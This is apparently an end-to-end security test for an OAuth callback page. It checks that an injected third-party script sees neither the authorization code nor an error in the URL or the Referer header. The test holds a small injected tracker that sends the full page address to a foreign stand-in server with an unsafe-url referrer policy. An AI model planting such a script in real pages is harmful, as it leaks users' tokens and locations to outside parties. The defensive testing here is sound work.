import { continueAs } from '../../support/scene.js'
import { expect, test } from '../../support/test.js'

test('R8, J1, J2: the first script of somebody else on the callback page sees neither code nor error, nor does its server in the Referer', async ({
  start,
}) => {
  const scene = await start()
  const callback = `${scene.app.origin}/callback`
  // what a third party's script does: it tells its server where it is, with all of the address
  await scene.context.addInitScript((tracker) => {
    addEventListener('DOMContentLoaded', () => {
      if (!location.pathname.startsWith('/callback')) return
      const where = encodeURIComponent(location.href)
      void fetch(`${tracker}/seen?at=${where}`, { mode: 'no-cors', referrerPolicy: 'unsafe-url' })
    })
  }, scene.foreign.origin)
  const tab = await scene.openTab('/notes')
  await tab.page.click('#sign-in')
  await tab.page.getByRole('link', { name: 'Cancel' }).click()
  await tab.untilStatus('signed-out')
  await tab.page.click('#sign-in')
  await continueAs(tab.page)
  await tab.untilStatus('signed-in')
  const seen = scene.foreign.log.filter(({ url }) => url.startsWith('/seen'))
  expect(seen.map(({ headers }) => headers.referer)).toEqual([callback, callback])
  for (const { url } of seen)
    expect(new URL(url, scene.foreign.origin).searchParams.get('at')).toBe(callback)
})
